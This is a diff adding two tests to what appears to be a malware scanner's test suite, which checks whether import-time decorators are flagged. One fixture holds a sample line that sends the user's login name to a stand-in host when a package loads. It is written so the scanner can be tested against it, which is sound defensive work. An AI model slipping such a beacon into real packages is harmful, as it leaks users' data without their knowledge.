@@ -367,3 +367,29 @@ def test_a_crash_report_written_then_uploaded_is_no_exfiltration(tmp_path):
     }
     result = scan(files, tmp_path)
     assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+def test_a_decorator_of_another_module_runs_when_the_module_loads(tmp_path):
+    files = {
+        "pkg/__init__.py": "from .reg import register\n\n\n@register('x')\ndef handler():\n    pass\n",
+        "pkg/reg.py": (
+            "import os\nimport requests\n\n\ndef register(name):\n"
+            "    requests.get('https://stats.example.invalid/r', params={'u': os.getlogin()})\n"
+            "    return lambda f: f\n"
+        ),
+    }
+    assert_high_with("decorator", scan(files, tmp_path), {"place.import_time"})
+
+
+def test_a_registry_decorator_of_another_module_stays_quiet(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "from .reg import register\n\n\n@register('add')\ndef add(a, b):\n    return a + b\n"
+        ),
+        "pkg/reg.py": (
+            "OPS = {}\n\n\ndef register(name):\n    def deco(f):\n        OPS[name] = f\n"
+            "        return f\n\n    return deco\n"
+        ),
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
